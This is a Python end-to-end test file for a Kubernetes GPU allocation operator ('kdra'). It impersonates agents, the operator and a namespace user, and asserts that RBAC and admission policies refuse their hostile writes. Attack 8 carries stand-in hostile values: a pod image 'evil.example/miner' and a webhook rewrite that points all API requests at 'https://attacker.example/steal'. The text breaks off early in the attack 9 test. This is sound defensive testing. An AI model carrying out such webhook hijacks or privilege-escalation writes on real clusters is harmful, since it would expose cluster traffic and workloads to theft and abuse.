"""Least privilege and bounded search, tried as an attacker would (issue 22: attacks 3, 5, 8, 9),
against a real API server with the manifests' RBAC, ValidatingAdmissionPolicies and webhooks.

- The operator runs as deployed: its ServiceAccount's token (manifests/base RBAC and
  policies), its webhooks served and registered (manifests/webhooks' objects, pointed at the
  test's port; the operator fills in the CA bundle, which is all it may change).
- Attackers are impersonated with kubeconfigs carrying ``as`` (and, for a node agent,
  ``as-user-extra`` authentication.kubernetes.io/node-name: what the API server derives from
  a token bound to a pod on that node): an agent, the simulation agent, the operator's
  ServiceAccount, a namespace user with the ``edit`` role.
- The node agent process itself runs with the admin's credentials (it is not under test here).

After each attack (:meth:`Cluster.after_attack`): another pod still gets a device and is
bound, the operator restarts, and ``kdra check`` finds no violation in this test's namespace
or nodes.
"""

from __future__ import annotations

import json
import ssl
import subprocess
import sys
import urllib.error
import urllib.request
import uuid
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
import yaml

from kdra.devenv.controlplane import ControlPlane, free_port
from kdra.domain.podclaims import CLAIM_STATUSES_ANNOTATION, CLAIMS_ANNOTATION
from kdra.domain.webhooks import Endpoint, mutating_configuration, validating_configuration
from tests.e2e.conftest import ROOT, get_json
from tests.e2e.conversion import ConversionServer
from tests.e2e.procs import KdraProcess, wait_for

MANIFESTS = ROOT / "manifests"
SYSTEM = "kdra-system"
GPU = "gpu.kdra.dev"
CLAIMS = "resourceclaims.resource.kdra.dev"
SLICES = "resourceslices.resource.kdra.dev"
AGENT = f"system:serviceaccount:{SYSTEM}:kdra-agent"
SIMULATION = f"system:serviceaccount:{SYSTEM}:kdra-agent-simulation"
OPERATOR = f"system:serviceaccount:{SYSTEM}:kdra-operator"
NODE_NAME_EXTRA = "authentication.kubernetes.io/node-name"
USER = "mallory"
REAL_KINDS = {"Namespace", "ServiceAccount", "ClusterRole", "ClusterRoleBinding", "Role",
              "RoleBinding", "ValidatingAdmissionPolicy", "ValidatingAdmissionPolicyBinding"}
GPUS = 16
SEARCH_TIMEOUT = 30
AHEAD = 6
"""One-GPU claims ahead of the hostile pod's All claim: 16^6 assignments per node."""


def build(plane: ControlPlane, directory: str) -> list[dict[str, Any]]:
    out = plane.kubectl("kustomize", str(MANIFESTS / directory)).stdout
    return [doc for doc in yaml.safe_load_all(out) if doc]


def apply(plane: ControlPlane, *objects: dict[str, Any]) -> None:
    plane.kubectl("apply", "-f", "-", input="\n---\n".join(json.dumps(o) for o in objects))


# --------------------------------------------------------------------------- identities


class As:
    """kubectl as someone else: ``user`` (+ ``node`` as the node-name extra an agent's token
    carries, + ``groups``)."""

    def __init__(self, plane: ControlPlane, directory: Path, user: str, node: str | None = None,
                 groups: tuple[str, ...] = ()) -> None:
        self.plane = plane
        self.user = user
        config = yaml.safe_load(plane.kubeconfig.read_text())
        identity = config["users"][0]["user"]
        identity["as"] = user
        if node:
            identity["as-user-extra"] = {NODE_NAME_EXTRA: [node]}
        if groups:
            identity["as-groups"] = list(groups)
        self.path = directory / f"{user.replace(':', '-')}-{node or 'none'}.kubeconfig"
        self.path.write_text(yaml.safe_dump(config))

    def __call__(self, *args: str, input: str | None = None) -> subprocess.CompletedProcess[str]:
        return subprocess.run([str(self.plane.bin_dir / "kubectl"), "--kubeconfig",
                               str(self.path), *args], input=input, capture_output=True,
                              text=True, timeout=60)

    def denied(self, *args: str, input: str | None = None, says: str = "") -> str:
        """Run a write that must be refused; return the refusal."""
        result = self(*args, input=input)
        assert result.returncode != 0, f"allowed: kubectl {' '.join(args)}: {result.stdout}"
        assert says in result.stderr, result.stderr
        return result.stderr

    def request(self, method: str, path: str, body: dict[str, Any]) -> tuple[int, str]:
        """A request sent as is: kubectl patch GETs the object first (which the attacker
        may not be allowed to), kubectl replace rewrites its last-applied annotation."""
        config = yaml.safe_load(self.plane.kubeconfig.read_text())
        cluster, user = config["clusters"][0]["cluster"], config["users"][0]["user"]
        context = ssl.create_default_context(cafile=cluster["certificate-authority"])
        context.load_cert_chain(user["client-certificate"], user["client-key"])
        content = "application/merge-patch+json" if method == "PATCH" else "application/json"
        request = urllib.request.Request(
            cluster["server"] + path, data=json.dumps(body).encode(), method=method,
            headers={"Content-Type": content, "Impersonate-User": self.user})
        try:
            with urllib.request.urlopen(request, context=context, timeout=30) as response:
                return response.status, response.read().decode()
        except urllib.error.HTTPError as error:
            return error.code, error.read().decode()

    def allowed(self, *args: str, input: str | None = None) -> str:
        result = self(*args, input=input)
        assert result.returncode == 0, f"kubectl {' '.join(args)}: {result.stderr}"
        return result.stdout


# --------------------------------------------------------------------------- the cluster


@dataclass
class Cluster:
    plane: ControlPlane
    work: Path
    namespace: str
    nodes: list[str]
    agent: KdraProcess
    operator: KdraProcess | None = None
    operator_args: list[str] = field(default_factory=list)
    pods: int = 0

    def who(self, user: str, node: str | None = None, groups: tuple[str, ...] = ()) -> As:
        return As(self.plane, self.work, user, node, groups)

    # ------------------------------------------------------------ the operator, as deployed

    def start_operator(self) -> KdraProcess:
        token = self.plane.kubectl("create", "token", "kdra-operator", "-n", SYSTEM,
                                   "--duration", "2h").stdout.strip()
        config = yaml.safe_load(self.plane.kubeconfig.read_text())
        config["users"] = [{"name": "kdra-operator", "user": {"token": token}}]
        config["contexts"][0]["context"]["user"] = "kdra-operator"
        path = self.work / "operator.kubeconfig"
        path.write_text(yaml.safe_dump(config))
        proc = KdraProcess(self.operator_args, self.work / "operator.log", path,
                           ready_line="kdra operator started")
        self.operator = proc.start(timeout=120)
        return self.operator

    def restart_operator(self) -> None:
        assert self.operator is not None
        self.operator.stop()
        self.operator.start(timeout=120)

    # ------------------------------------------------------------ pods

    def pod(self, name: str, claims: list[dict[str, Any]]) -> dict[str, Any]:
        """A pod asking for ``claims``, restricted to this test's nodes."""
        return {"apiVersion": "v1", "kind": "Pod",
                "metadata": {"name": name, "namespace": self.namespace,
                             "annotations": {CLAIMS_ANNOTATION: yaml.safe_dump(claims)}},
                "spec": {"containers": [{"name": "main", "image": "registry.k8s.io/pause:3.10"}],
                         "affinity": {"nodeAffinity": {
                             "requiredDuringSchedulingIgnoredDuringExecution": {
                                 "nodeSelectorTerms": [{"matchExpressions": [{
                                     "key": "kubernetes.io/hostname", "operator": "In",
                                     "values": self.nodes}]}]}}}}}

    def one_gpu_pod(self, prefix: str = "p") -> str:
        self.pods += 1
        name = f"{prefix}-{self.pods}"
        apply(self.plane, self.pod(name, [{"name": "gpu",
                                           "resourceClaimTemplateName": "one-gpu"}]))
        return name

    def get_pod(self, name: str) -> dict[str, Any]:
        return dict(get_json(self.plane, "pod", name, "-n", self.namespace))

    def wait_bound(self, name: str, timeout: float = 120) -> dict[str, Any]:
        pod: dict[str, Any] = wait_for(
            lambda: (p := self.get_pod(name))["spec"].get("nodeName") and p,
            timeout=timeout, interval=0.25, what=f"pod {name} bound")
        return pod

    def claim_of(self, pod: str, entry: str = "gpu") -> dict[str, Any]:
        statuses = json.loads(self.get_pod(pod)["metadata"]["annotations"]
                              [CLAIM_STATUSES_ANNOTATION])
        return dict(get_json(self.plane, CLAIMS, statuses[entry], "-n", self.namespace))

    def delete_pod(self, name: str) -> None:
        self.plane.kubectl("delete", "pod", name, "-n", self.namespace, "--grace-period=0",
                           "--force", "--wait=false", check=False)

    def condition(self, name: str) -> dict[str, Any]:
        return next((c for c in (self.get_pod(name).get("status") or {}).get("conditions") or []
                     if c.get("type") == "PodScheduled"), {})

    def metric(self, sample: str) -> float:
        """The operator's value of one sample (``name{labels}``); 0 when absent."""
        assert self.operator is not None
        for line in self.operator.metrics().splitlines():
            if line.startswith(sample + " "):
                return float(line.split()[-1])
        return 0.0

    # ------------------------------------------------------------ after each attack

    def allocations(self) -> list[tuple[str, str, str]]:
        items = get_json(self.plane, CLAIMS, "-n", self.namespace)["items"]
        return [(r["driver"], r["pool"], r["device"]) for c in items
                for r in ((c.get("status") or {}).get("allocation") or {})
                .get("devices", {}).get("results", [])]

    def check_violations(self) -> list[dict[str, str]]:
        """``kdra check`` as a user runs it; the violations about this test's objects."""
        home = self.work / "agent"
        result = subprocess.run(
            [sys.executable, "-m", "kdra", "check", "--kubeconfig", str(self.plane.kubeconfig),
             "--cdi-dir", str(home / "cdi"), "--state-dir", str(home / "state"), "-o", "json"],
            capture_output=True, text=True, timeout=120, check=False)
        assert result.returncode in (0, 1), result.stderr
        found: list[dict[str, str]] = json.loads(result.stdout)
        ours = (self.namespace, *self.nodes)
        return [v for v in found if any(word in v["message"] for word in ours)]

    def after_attack(self) -> None:
        """Another pod still gets a device of its own and is bound; the operator restarts;
        ``kdra check`` is clean; no device is allocated twice."""
        name = self.one_gpu_pod("after")
        self.wait_bound(name)
        devices = self.allocations()
        assert len(devices) == len(set(devices)), devices
        self.restart_operator()
        wait_for(lambda: not self.check_violations(), timeout=60, interval=2,
                 what="kdra check clean")
        self.delete_pod(name)


@pytest.fixture(scope="module")
def installed(control_plane: ControlPlane,
              conversion_server: ConversionServer) -> Iterator[None]:
    """manifests/base's accounts, RBAC and admission policies, and manifests/simulation's, for
    real (they only concern kdra's accounts and the aggregated user roles)."""
    conversion_server.install_crds(control_plane, MANIFESTS / "base/crds")
    control_plane.kubectl("wait", "--for", "condition=Established", "--timeout", "60s", "crd",
                          "-l", "app.kubernetes.io/part-of=kdra")
    real = [doc for directory in ("base", "simulation") for doc in build(control_plane, directory)
            if doc["kind"] in REAL_KINDS]
    control_plane.kubectl("apply", "--server-side", "--force-conflicts", "-f", "-",
                          input=yaml.safe_dump_all(real))
    yield
    conversion_server.point(control_plane)  # the operator pointed the CRDs at itself
    for doc in reversed(real):
        if doc["kind"] in ("Namespace", "ServiceAccount"):
            continue
        args = [doc["kind"].lower(), doc["metadata"]["name"]]
        if doc["metadata"].get("namespace"):
            args += ["-n", doc["metadata"]["namespace"]]
        control_plane.kubectl("delete", *args, "--ignore-not-found", "--wait=false",
                              check=False)


def policies_in_force(plane: ControlPlane, work: Path, node: str) -> None:
    """Admission policies are compiled asynchronously after they are created: wait until
    each of them bites."""
    agent = As(plane, work, AGENT, node)
    lease = {"apiVersion": "coordination.k8s.io/v1", "kind": "Lease",
             "metadata": {"name": "kdra-operator-probe", "namespace": SYSTEM,
                          "annotations": {"resource.kdra.dev/node": node}},
             "spec": {"holderIdentity": "probe", "leaseDurationSeconds": 10}}
    pod = {"apiVersion": "v1", "kind": "Pod",
           "metadata": {"name": "policy-probe", "namespace": SYSTEM},
           "spec": {"containers": [{"name": "c", "image": "registry.k8s.io/pause:3.10"}]}}
    apply(plane, pod)
    operator = As(plane, work, OPERATOR)

    def biting() -> bool:
        created = agent("create", "-f", "-", input=json.dumps(lease))
        if created.returncode == 0:
            plane.kubectl("delete", "lease", "kdra-operator-probe", "-n", SYSTEM, check=False)
        labelled = operator("label", "pod", "policy-probe", "-n", SYSTEM, "probe=1",
                            "--overwrite")
        return created.returncode != 0 and labelled.returncode != 0

    try:
        wait_for(biting, timeout=90, interval=1, what="admission policies in force")
    finally:
        plane.kubectl("delete", "pod", "policy-probe", "-n", SYSTEM, "--grace-period=0",
                      "--force", "--wait=false", check=False)


@pytest.fixture(scope="module")
def cluster(control_plane: ControlPlane, installed: None,
            tmp_path_factory: pytest.TempPathFactory) -> Iterator[Cluster]:
    work = tmp_path_factory.mktemp("hostile-privilege")
    suffix = uuid.uuid4().hex[:5]
    namespace = f"hostile-{suffix}"
    nodes = [f"hp-{suffix}-{i}" for i in range(2)]
    control_plane.kubectl("create", "namespace", namespace)
    # A namespace user with the default edit role (kdra-user aggregated into it).
    control_plane.kubectl("create", "rolebinding", "mallory-edit", "-n", namespace,
                          "--clusterrole", "edit", "--user", USER)
    home = work / "agent"
    home.mkdir()
    (home / "inventory.yaml").write_text(f"gpus: ['{GPUS} x H100-80GB']\n")
    agent = KdraProcess(
        ["agent", "--node-name", nodes[0], "--simulate-nodes", ",".join(nodes),
         "--inventory", str(home / "inventory.yaml"), "--cdi-dir", str(home / "cdi"),
         "--state-dir", str(home / "state"), "--lease-duration", "10", "--renew-interval", "1",
         "--create-nodes"],
        home / "agent.log", control_plane.kubeconfig, ready_line="kdra agent started").start(90)
    apply(control_plane,
          {"apiVersion": "resource.kdra.dev/v1", "kind": "DeviceClass",
           "metadata": {"name": GPU},
           "spec": {"selectors": [{"cel": {"expression": f'device.driver == "{GPU}"'}}]}},
          *({"apiVersion": "resource.kdra.dev/v1", "kind": "ResourceClaimTemplate",
             "metadata": {"name": name, "namespace": namespace},
             "spec": {"spec": {"devices": {"requests": [{"name": "gpu", "exactly": {
                 "deviceClassName": GPU, **mode}}]}}}}
            for name, mode in (("one-gpu", {}), ("all-gpus", {"allocationMode": "All"}))))
    port = free_port()
    url = f"https://127.0.0.1:{port}"
    # The webhook configurations as an installer applies them (manifests/webhooks, here
    # pointed at the test's port); the operator fills in the CA bundle.
    apply(control_plane, mutating_configuration(Endpoint(url=url), b"\n"),
          validating_configuration(Endpoint(url=url), b"\n"))
    state = Cluster(control_plane, work, namespace, nodes, agent, operator_args=[
        "operator", "--health-port", "0", "--prepare-timeout", "60",
        "--webhook-port", str(port), "--webhook-host", "127.0.0.1", "--webhook-url", url,
        "--webhook-manage-config", "true",
        "--allocation-search-steps", "1000000000",
        "--allocation-search-timeout", str(SEARCH_TIMEOUT)])
    try:
        state.start_operator()
        policies_in_force(control_plane, work, nodes[0])
        yield state
    finally:
        if state.operator is not None:
            print(f"===== operator log =====\n{state.operator.tail(120)}")
            state.operator.stop()
        print(f"===== agent log =====\n{agent.tail(60)}")
        agent.stop()
        for kind, name in (("mutatingwebhookconfiguration", "kdra-mutating"),
                           ("validatingwebhookconfiguration", "kdra-validating")):
            control_plane.kubectl("delete", kind, name, "--ignore-not-found", check=False)
        control_plane.kubectl("delete", "pods", "--all", "-n", namespace, "--grace-period=0",
                              "--force", "--wait=false", check=False)
        control_plane.kubectl("delete", "namespace", namespace, "--wait=false", check=False)
        control_plane.kubectl("delete", "node", *nodes, "--ignore-not-found", "--wait=false",
                              check=False)


# --------------------------------------------------------------------------- the operator


def test_the_operator_works_as_deployed(cluster: Cluster) -> None:
    """Its ServiceAccount, the manifests' RBAC and policies, its own webhooks: a pod gets a
    claim from a template, a device, and is bound (nothing the operator needs is denied)."""
    name = cluster.one_gpu_pod()
    pod = cluster.wait_bound(name)
    assert pod["spec"]["schedulerName"] == "kdra-scheduler"  # the mutating webhook
    assert pod["spec"]["nodeName"] in cluster.nodes
    claim = cluster.claim_of(name)
    assert claim["status"]["reservedFor"][0]["name"] == name
    webhooks = get_json(cluster.plane, "validatingwebhookconfiguration", "kdra-validating")
    assert all(w["clientConfig"]["caBundle"] != "Cg==" for w in webhooks["webhooks"])
    cluster.delete_pod(name)


def test_the_operator_preempts_as_deployed(cluster: Cluster) -> None:
    """Preemption (issue 27) with the operator's own rights: it lists PodDisruptionBudgets,
    evicts through the Eviction API and sets the preemptor's nominatedNodeName (the
    admission policy lets it change only that and PodScheduled in a pending pod's status)."""
    plane = cluster.plane
    low, high = f"low-{cluster.namespace}", f"high-{cluster.namespace}"
    apply(plane, {"apiVersion": "scheduling.k8s.io/v1", "kind": "PriorityClass",
                  "metadata": {"name": low}, "value": 10},
          {"apiVersion": "scheduling.k8s.io/v1", "kind": "PriorityClass",
           "metadata": {"name": high}, "value": 1000})
    hogs = [f"hog-{i}" for i in range(len(cluster.nodes))]
    try:
        for name in hogs:  # every GPU of every node, at a low priority
            pod = cluster.pod(name, [{"name": "gpu", "resourceClaimTemplateName": "all-gpus"}])
            pod["spec"]["priorityClassName"] = low
            apply(plane, pod)
            cluster.wait_bound(name)
        pod = cluster.pod("urgent", [{"name": "gpu", "resourceClaimTemplateName": "one-gpu"}])
        pod["spec"]["priorityClassName"] = high
        apply(plane, pod)
        nominated = wait_for(
            lambda: (p := cluster.get_pod("urgent")).get("status", {}).get(
                "nominatedNodeName") and p, timeout=60, what="urgent nominated")
        node = nominated["status"]["nominatedNodeName"]
        # Exactly one hog evicted (no kubelet here: it stays terminating), the one on the
        # nominated node.
        evicted = [h for h in hogs if cluster.get_pod(h)["metadata"].get("deletionTimestamp")]
        assert len(evicted) == 1, evicted
        assert cluster.get_pod(evicted[0])["spec"]["nodeName"] == node
        assert cluster.metric("kdra_preemption_victims_total") == 1
        cluster.delete_pod(evicted[0])  # the kubelet's part
        assert cluster.wait_bound("urgent")["spec"]["nodeName"] == node
    finally:
        for name in [*hogs, "urgent"]:
            cluster.delete_pod(name)
        plane.kubectl("delete", "priorityclass", low, high, "--ignore-not-found",
                      "--wait=false", check=False)
    wait_for(lambda: not cluster.allocations(), timeout=60, what="the GPUs released")


# --------------------------------------------------------------------------- attack 3


def test_attack_3_an_agent_cannot_rewrite_another_nodes_claim(cluster: Cluster) -> None:
    victim = cluster.one_gpu_pod("victim")
    node = cluster.wait_bound(victim)["spec"]["nodeName"]
    other = next(n for n in cluster.nodes if n != node)
    claim = cluster.claim_of(victim)
    ns = ("-n", cluster.namespace)
    stranger = cluster.who(AGENT, other)

    def status_write(change: dict[str, Any]) -> str:
        """The claim as it is now (a stale resourceVersion would be a Conflict before any
        admission policy is asked), with ``change`` (None: remove the field)."""
        body = cluster.claim_of(victim)
        body["status"].update(change)
        for key in [k for k, v in change.items() if v is None]:
            body["status"].pop(key)
        return json.dumps(body)

    # Clear the allocation of a claim whose pod is bound (before: a new pod then got the
    # same GPU), drop the reservation, or mark another pool's device.
    cleared = {"allocation": None, "allocatedDevices": None, "reservedFor": None,
               "devices": None}
    stranger.denied("replace", "--subresource=status", "-f", "-", *ns,
                    input=status_write(cleared),
                    says="kdra agents may not change status.allocation")
    stranger.denied("replace", "--subresource=status", "-f", "-", *ns,
                    input=status_write({"reservedFor": None}),
                    says="kdra agents may not change status.reservedFor")
    result = claim["status"]["allocation"]["devices"]["results"][0]
    forged = [{"driver": GPU, "pool": node, "device": result["device"],
               "conditions": [{"type": "Ready", "status": "False", "reason": "Forged",
                               "message": "", "lastTransitionTime": "2026-01-01T00:00:00Z"}]}]
    stranger.denied("replace", "--subresource=status", "-f", "-", *ns,
                    input=status_write({"devices": forged}),
                    says=f"kdra agent on node '{other}' may only change status.devices "
                         f"entries of pool '{other}'")
    # The simulation agent (many nodes) may not touch allocation or reservations either; an
    # agent token bound to no node may write no claim status at all.
    cluster.who(SIMULATION).denied(
        "replace", "--subresource=status", "-f", "-", *ns,
        input=status_write(cleared), says="kdra agents may not change status.allocation")
    cluster.who(AGENT).denied("replace", "--subresource=status", "-f", "-", *ns,
                              input=status_write({}),
                              says="only with a token bound to a pod on a node")
    # The node's own agent may rewrite its own entries (here: unchanged; the status write
    # it does when it prepares).
    cluster.who(AGENT, node).allowed("replace", "--subresource=status", "-f", "-", *ns,
                                     input=status_write({}))
    # The claim is as it was: still allocated to the victim, whose device nobody else gets.
    after = cluster.claim_of(victim)
    assert after["status"]["allocation"] == claim["status"]["allocation"]
    assert [r["uid"] for r in after["status"]["reservedFor"]] == [
        r["uid"] for r in claim["status"]["reservedFor"]]
    cluster.after_attack()
    assert cluster.claim_of(victim)["status"]["allocation"] == claim["status"]["allocation"]
    cluster.delete_pod(victim)


# --------------------------------------------------------------------------- attack 5


def lease(name: str, annotations: dict[str, str], duration: int = 40,
          labels: dict[str, str] | None = None) -> str:
    return json.dumps({"apiVersion": "coordination.k8s.io/v1", "kind": "Lease",
                       "metadata": {"name": name, "namespace": SYSTEM, "annotations": annotations,
                                    "labels": labels or {}},
                       "spec": {"holderIdentity": "attacker", "leaseDurationSeconds": duration}})


def test_attack_5_an_agent_cannot_vouch_for_other_nodes_or_hold_the_operators_lease(
        cluster: Cluster) -> None:
    node = cluster.nodes[0]
    agent = cluster.who(AGENT, node)
    mine = {"resource.kdra.dev/node": node, "resource.kdra.dev/driver": GPU}
    name = f"kdra-agent-{node}-gpu-kdra-dev-extra"
    # Vouching for a ghost node besides its own (before: ghost-node's slice outlived its
    # Lease).
    agent.denied("create", "-f", "-",
                 input=lease(name, {**mine, "resource.kdra.dev/nodes": f"ghost-node,{node}"}),
                 says="may not write the annotation resource.kdra.dev/nodes")
    # The operator's leader Lease, with an absurd duration (before: a standby operator then
    # waited for ever).
    agent.denied("create", "-f", "-", input=lease("kdra-operator", mine, 2_000_000_000),
                 says=f"may only write Leases named kdra-agent-{node}-<driver>")
    agent.denied("create", "-f", "-", input=lease(name, mine, 2_000_000_000),
                 says="may last at most 3600 seconds")
    # Nor take over the operator's Lease if it exists.
    cluster.plane.kubectl("apply", "-f", "-", input=lease("kdra-operator", {}, 15))
    try:
        agent.denied("patch", "lease", "kdra-operator", "-n", SYSTEM, "--type=merge", "-p",
                     json.dumps({"metadata": {"annotations": mine},
                                 "spec": {"leaseDurationSeconds": 2_000_000_000}}),
                     says="may only write Leases annotated")
        cluster.who(SIMULATION).denied(
            "patch", "lease", "kdra-operator", "-n", SYSTEM, "--type=merge", "-p",
            json.dumps({"spec": {"leaseDurationSeconds": 2_000_000_000}}),
            says="may only write heartbeat Leases")
    finally:
        cluster.plane.kubectl("delete", "lease", "kdra-operator", "-n", SYSTEM,
                              "--ignore-not-found", check=False)
    # Its own heartbeat is fine; a simulation agent's shared Lease (many nodes) is its own
    # account's business.
    agent.allowed("create", "-f", "-", input=lease(name, mine))
    shared = f"kdra-agent-nodes-probe{cluster.nodes[0][-5:]}-gpu-kdra-dev"
    try:
        cluster.who(SIMULATION).allowed(
            "create", "-f", "-",
            input=lease(shared, {"resource.kdra.dev/nodes": ",".join(cluster.nodes),
                                 "resource.kdra.dev/driver": GPU}, 40,
                        {"resource.kdra.dev/agent-lease": "true"}))
    finally:
        for leftover in (name, shared):
            cluster.plane.kubectl("delete", "lease", leftover, "-n", SYSTEM,
                                  "--ignore-not-found", check=False)
    cluster.after_attack()


def test_an_agent_still_writes_only_its_own_nodes_slices(cluster: Cluster) -> None:
    """Held before issue 22, kept: an agent cannot publish devices for another node."""
    node, other = cluster.nodes
    forged = {"apiVersion": "resource.kdra.dev/v1", "kind": "ResourceSlice",
              "metadata": {"name": f"forged-{other}"},
              "spec": {"driver": GPU, "nodeName": other,
                       "pool": {"name": other, "generation": 99, "resourceSliceCount": 1},
                       "devices": [{"name": "gpu-99"}]}}
    cluster.who(AGENT, node).denied(
        "create", "-f", "-", input=json.dumps(forged),
        says=f"may only write ResourceSlices of its own node, not one of node '{other}'")
    cluster.after_attack()


# --------------------------------------------------------------------------- attack 8


def test_attack_8_the_operators_token_reaches_only_what_the_operator_does(
        cluster: Cluster) -> None:
    plane = cluster.plane
    operator = cluster.who(OPERATOR)
    victim = {"apiVersion": "v1", "kind": "Pod",
              "metadata": {"name": f"victim-{cluster.namespace}", "namespace": "kube-system",
                           "labels": {"app": "victim"}},
              "spec": {"containers": [{"name": "c", "image": "registry.k8s.io/pause:3.10"}]}}
    apply(plane, victim)
    pod = victim["metadata"]["name"]
    try:
        # Patch a kube-system pod's image, labels, annotations or status (before: allowed).
        operator.denied("patch", "pod", pod, "-n", "kube-system", "-p", json.dumps(
            {"spec": {"containers": [{"name": "c", "image": "evil.example/miner"}]}}),
            says="kdra's operator may not change the spec of pod kube-system/" + pod)
        operator.denied("label", "pod", pod, "-n", "kube-system", "app=hijacked",
                        "--overwrite", says="may change only kdra's annotations and finalizers")
        operator.denied("annotate", "pod", pod, "-n", "kube-system", "anything=1",
                        says="may change only the annotation resource.kdra.dev/claim-statuses")
        operator.denied("annotate", "pod", pod, "-n", "kube-system",
                        f"{CLAIM_STATUSES_ANNOTATION}={{}}",
                        says="records claim names only on pods with the "
                             "resource.kdra.dev/claims annotation")
        code, answer = operator.request(
            "PATCH", f"/api/v1/namespaces/kube-system/pods/{pod}/status",
            {"status": {"conditions": [{"type": "PodScheduled", "status": "False"}]}})
        assert code == 403, answer
        assert ("writes the status only of pending pods with schedulerName kdra-scheduler"
                in answer), answer
        # Bind any pod to any node (before: allowed).
        binding = {"apiVersion": "v1", "kind": "Binding",
                   "metadata": {"name": pod, "namespace": "kube-system"},
                   "target": {"apiVersion": "v1", "kind": "Node", "name": cluster.nodes[0]}}
        operator.denied("create", "-f", "-", "--raw",
                        f"/api/v1/namespaces/kube-system/pods/{pod}/binding",
                        input=json.dumps(binding),
                        says="kdra's operator binds only pods with schedulerName "
                             "kdra-scheduler; pod kube-system/" + pod)
        assert not cluster.plane.kubectl(
            "get", "pod", pod, "-n", "kube-system", "-o", "jsonpath={.spec.nodeName}").stdout
        # Rewrite its own webhook configuration: every request, to an external URL.
        config = get_json(plane, "validatingwebhookconfiguration", "kdra-validating")
        hijacked = json.loads(json.dumps(config))
        for webhook in hijacked["webhooks"]:
            webhook["rules"] = [{"apiGroups": ["*"], "apiVersions": ["*"],
                                 "operations": ["*"], "resources": ["*/*"], "scope": "*"}]
            webhook["clientConfig"] = {"url": "https://attacker.example/steal",
                                       "caBundle": webhook["clientConfig"]["caBundle"]}
            webhook.pop("matchConditions", None)
        operator.denied("replace", "-f", "-", input=json.dumps(hijacked),
                        says="kdra's operator may change only the caBundle of kdra-validating")
        # ... while its CA bundle is its to keep current (changed, then put back).
        path = ("/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations/"
                "kdra-validating")
        rotated = get_json(plane, "validatingwebhookconfiguration", "kdra-validating")
        original = [w["clientConfig"]["caBundle"] for w in rotated["webhooks"]]
        for webhook in rotated["webhooks"]:
            webhook["clientConfig"]["caBundle"] = "Cg=="
        code, answer = operator.request("PUT", path, rotated)
        assert code == 200, answer
        restored = json.loads(answer)
        for webhook, bundle in zip(restored["webhooks"], original, strict=True):
            webhook["clientConfig"]["caBundle"] = bundle
        code, answer = operator.request("PUT", path, restored)
        assert code == 200, answer
        # kdra's CRDs: it pointed their conversion at its own /convert at start, and may
        # change nothing else of them (their schemas, names, labels).
        crd = "resourceclaims.resource.kdra.dev"
        conversion = get_json(plane, "crd", crd)["spec"]["conversion"]["webhook"]
        assert conversion["clientConfig"]["url"].endswith("/convert")
        operator.denied("patch", "crd", crd, "--type=merge", "-p", json.dumps(
            {"spec": {"names": {"shortNames": ["kclaim", "stolen"]}}}),
            says=f"kdra's operator may change only spec.conversion of CRD {crd}")
        operator.denied("label", "crd", crd, "stolen=1",
                        says=f"kdra's operator may change only spec.conversion of CRD {crd}")
        assert operator("patch", "crd", crd, "--type=merge", "-p", json.dumps(
            {"spec": {"conversion": {"webhook": conversion}}})).returncode == 0
        # Its RBAC still has no wildcards and no pod deletion, creation or secrets elsewhere.
        for verb, resource in (("delete", "pods"), ("create", "pods"), ("get", "secrets")):
            assert plane.kubectl("auth", "can-i", verb, resource, "-n", "kube-system",
                                 as_user=OPERATOR, check=False).stdout.strip() == "no"
    finally:
        plane.kubectl("delete", "pod", pod, "-n", "kube-system", "--grace-period=0",
                      "--force", "--wait=false", check=False)
    cluster.after_attack()


def test_users_write_claims_but_not_status_slices_or_classes(cluster: Cluster) -> None:
    """Held before issue 22, kept: a namespace user (the default edit role, which now
    aggregates kdra-user) creates claims but writes no status, slice or class; it reads its
    namespace's DeviceQuotas but cannot write one (issue 27)."""
    user = cluster.who(USER)
    ns = ("-n", cluster.namespace)
    claim = {"apiVersion": "resource.kdra.dev/v1", "kind": "ResourceClaim",
             "metadata": {"name": "mallorys", "namespace": cluster.namespace},
             "spec": {"devices": {"requests": [{"name": "gpu", "exactly": {
                 "deviceClassName": GPU}}]}}}
    # kube-controller-manager aggregates kdra-user into edit (asynchronously).
    wait_for(lambda: cluster.plane.kubectl(
        "auth", "can-i", "create", CLAIMS, "-n", cluster.namespace, as_user=USER,
        check=False).stdout.strip() == "yes", timeout=60, interval=1,
        what="kdra-user aggregated into edit")
    user.allowed("create", "-f", "-", input=json.dumps(claim))
    user.allowed("get", CLAIMS, "mallorys", *ns)
    stolen = {**claim, "status": {"allocation": {"devices": {"results": [
        {"request": "gpu", "driver": GPU, "pool": cluster.nodes[0], "device": "gpu-0"}]}}}}
    user.denied("replace", "--subresource=status", "-f", "-", *ns, input=json.dumps(stolen),
                says="forbidden")
    user.denied("create", "-f", "-", input=json.dumps(
        {"apiVersion": "resource.kdra.dev/v1", "kind": "ResourceSlice",
         "metadata": {"name": f"mallory-{cluster.namespace}"},
         "spec": {"driver": GPU, "nodeName": cluster.nodes[0],
                  "pool": {"name": cluster.nodes[0], "generation": 9, "resourceSliceCount": 1},
                  "devices": []}}), says="forbidden")
    user.denied("create", "-f", "-", input=json.dumps(
        {"apiVersion": "resource.kdra.dev/v1", "kind": "DeviceClass",
         "metadata": {"name": f"mallory-{cluster.namespace}"}, "spec": {}}), says="forbidden")
    # DeviceQuotas: read (view aggregates kdra-user-view, edit view), never written by
    # namespace users. Aggregation is asynchronous, as above.
    wait_for(lambda: cluster.plane.kubectl(
        "auth", "can-i", "list", "devicequotas.resource.kdra.dev", "-n", cluster.namespace,
        as_user=USER, check=False).stdout.strip() == "yes", timeout=60, interval=1,
        what="kdra-user-view aggregated into edit")
    user.allowed("get", "devicequotas.resource.kdra.dev", *ns)
    user.denied("create", "-f", "-", input=json.dumps(
        {"apiVersion": "resource.kdra.dev/v1alpha1", "kind": "DeviceQuota",
         "metadata": {"name": "unlimited", "namespace": cluster.namespace},
         "spec": {"limits": [{"deviceClassName": GPU, "devices": 1000}]}}), says="forbidden")
    user.allowed("delete", CLAIMS, "mallorys", *ns)
    cluster.after_attack()


# --------------------------------------------------------------------------- attack 9


def test_attack_9_a_search_that_tries_every_combination_is_bounded(cluster: Cluster) -> None:
    """Six one-GPU claims ahead of a claim for all GPUs, which they take first: no placement
    exists, and the search would try every assignment of the six (before: the one scheduling
    loop served nobody meanwhile, for minutes). Now: other pods are bound while it searches,
    it gives up at its deadline with AllocationSearchExhausted, and is retried later."""
    hostile = "hostile"
